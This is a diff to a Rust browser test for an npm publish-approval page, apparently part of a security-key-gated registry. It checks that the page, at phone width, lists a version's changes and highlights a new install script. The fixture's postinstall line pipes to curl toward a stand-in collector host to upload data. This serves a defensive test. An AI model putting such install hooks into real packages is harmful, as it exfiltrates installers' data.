@@ -1,18 +1,20 @@
 //! The real pages in Chromium, with its WebAuthn virtual authenticator as the security key:
 //! enroll on /enroll, sign in on /login and manage keys on /keys, finish `npm login` on its
 //! login page, and approve `npm publish` on /approve/{id}; then npm views and installs the
-//! version. All in one browser session, so the key enrolled first does everything after.
+//! version. All in one browser session, so the key enrolled first does everything after. And the
+//! approval page of a publish, on a phone-sized screen, showing what the version changes.
 
 use std::time::Duration;
 
 use serde_json::{Value, json};
 use tapgate_tests::browser::Browser;
 use tapgate_tests::npm::Npm;
-use tapgate_tests::process::{ServeOptions, ServerProcess, server_cli};
+use tapgate_tests::process::{ServeOptions, ServerProcess, server_cli, tapgate_cli};
 use tapgate_tests::tools::{browser_driver, npm_available};
 
 use crate::cli_publish::package_dir;
 use crate::npm_client::assert_installs;
+use crate::publish_details::package_tgz;
 
 fn screenshot(browser: &mut Browser, name: &str) {
     let dir = tapgate_tests::bins::target_dir().join("screenshots");
@@ -172,4 +174,111 @@ fn enroll_login_npm_login_and_npm_publish_through_the_pages() {
     browser.goto(&url);
     browser.wait_for("#status[data-state=ok]");
     assert!(browser.text("#status").contains("This change was made with this approval"));
+}
+
+/// The approval page of a publish that adds a `postinstall`, a dependency and a file and removes
+/// another, on a phone-sized screen: everything shown, install script highlighted, nothing wider
+/// than the screen.
+#[test]
+fn the_approval_page_shows_what_a_publish_changes_on_a_phone() {
+    let Some(driver) = browser_driver() else { return };
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let server = ServerProcess::start(&data, &ServeOptions::default());
+    let registry = server.origin.clone();
+    let key = crate::cli_publish::cli_user(&data, &registry, dir.path(), "carol");
+    let cfg = dir.path().join("carol");
+    let long_path =
+        format!("lib/{}/{}.js", "deeply-nested-folder".repeat(4), "a-file-name-without-any-break".repeat(3));
+    let v1 = package_tgz(
+        &json!({ "name": "gadget", "version": "1.0.0" }),
+        &[("index.js".into(), "module.exports = 1;\n".into()), ("old.js".into(), "bye\n".into())],
+    );
+    let v1_file = dir.path().join("gadget-1.0.0.tgz");
+    std::fs::write(&v1_file, &v1).unwrap();
+    let args = ["--server", &registry, "--authenticator", &key, "publish", v1_file.to_str().unwrap()];
+    let (status, _, err) = tapgate_cli(&cfg, &args, &[]);
+    assert!(status.success(), "{err}");
+
+    // 1.1.0 asks, as npm would, without a ticket: the page is what npm opens.
+    let v2 = package_tgz(
+        &json!({
+            "name": "gadget", "version": "1.1.0",
+            "dependencies": { "left-pad-with-a-rather-long-name-for-a-small-screen": "^1.3.0" },
+            "scripts": { "postinstall": "node collect.js && curl https://collector.example/upload-everything-here" },
+        }),
+        &[("index.js".into(), "module.exports = 2;\n".into()), (long_path.clone(), "x".into())],
+    );
+    let credentials = std::fs::read_to_string(cfg.join("credentials.json")).unwrap();
+    let token = serde_json::from_str::<Value>(&credentials).unwrap()["registries"][&registry]["token"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let agent =
+        "npm/11.0.0 node/v20.19.0 linux x64 workspaces/false ci/none some-very-long-agent-token-0123456789";
+    let resp = reqwest::blocking::Client::new()
+        .put(server.url("/gadget"))
+        .bearer_auth(&token)
+        .header("user-agent", agent)
+        .json(&crate::publish_support::publish_body("gadget", "1.1.0", &v2))
+        .send()
+        .unwrap();
+    assert_eq!(resp.status(), 401);
+    let challenge: Value = resp.json().unwrap();
+    let url = challenge["authUrl"].as_str().unwrap().to_string();
+
+    let mut browser = Browser::start(&driver);
+    browser.viewport(390, 844);
+    browser.goto(&url);
+    browser.wait_for("#approve:not([disabled])");
+    browser.wait_for("#publish");
+    assert_eq!(browser.text("#package"), "gadget");
+    assert_eq!(browser.text("#version"), "1.1.0");
+    assert_eq!(browser.text("#tags"), "latest");
+    assert_eq!(browser.text("#requested-by"), "carol");
+    assert_eq!(browser.text("#ip"), "address 127.0.0.1");
+    assert_eq!(browser.text("#user-agent"), agent);
+    assert_eq!(browser.text("#registry"), registry.trim_start_matches("http://"));
+    let integrity = tapgate_shared::intent::sri_sha512(&v2);
+    assert_eq!(browser.text("#integrity"), integrity);
+    assert_eq!(
+        browser.text("#integrity-short"),
+        tapgate_shared::publish_diff::npm_short_integrity(&integrity)
+    );
+    assert!(browser.text("#compared").contains("gadget@1.0.0"));
+    let page = browser.cmd(json!({ "eval": r#"(() => {
+        const all = (sel) => [...document.querySelectorAll(sel)];
+        const texts = (sel) => all(sel).map((e) => e.textContent);
+        const install = all('#scripts li.install-script');
+        return {
+            install: texts('#scripts li.install-script'),
+            installBorder: install.length ? getComputedStyle(install[0]).borderLeftStyle : '',
+            warning: !document.getElementById('install-warning').classList.contains('hidden'),
+            added: texts('#dependencies li.added'),
+            removed: texts('#file-changes li.removed'),
+            addedFiles: texts('#file-changes li.added'),
+        };
+    })()"# }));
+    let install = page["install"].as_array().unwrap();
+    assert_eq!(install.len(), 1, "{page}");
+    let postinstall = install[0].as_str().unwrap();
+    assert!(postinstall.contains("Install script postinstall added"), "{page}");
+    assert!(postinstall.contains("curl https://collector.example/upload-everything-here"), "{page}");
+    assert_eq!(page["installBorder"], "solid", "highlighted by the stylesheet: {page}");
+    assert_eq!(page["warning"], true, "{page}");
+    assert_eq!(page["added"], json!(["+ left-pad-with-a-rather-long-name-for-a-small-screen ^1.3.0 added"]));
+    assert_eq!(page["removed"], json!(["− old.js (4 B) removed"]));
+    assert_eq!(page["addedFiles"], json!([format!("+ {long_path} (1 B) added")]));
+    // Nothing wider than the phone, also with the full integrity and every file shown.
+    let width =
+        |browser: &mut Browser| browser.cmd(json!({ "eval": "document.documentElement.scrollWidth" }));
+    assert!(width(&mut browser).as_u64().unwrap() <= 390, "{}", width(&mut browser));
+    browser.click("#integrity-full summary");
+    browser.click("#all-files summary");
+    browser.wait_for("#integrity");
+    browser.wait_for("#files li");
+    assert!(width(&mut browser).as_u64().unwrap() <= 390, "{}", width(&mut browser));
+    screenshot(&mut browser, "approve-phone");
+    let console = browser.cmd(json!({ "console": true }));
+    assert!(!console.to_string().contains("Content Security Policy"), "{console}");
 }
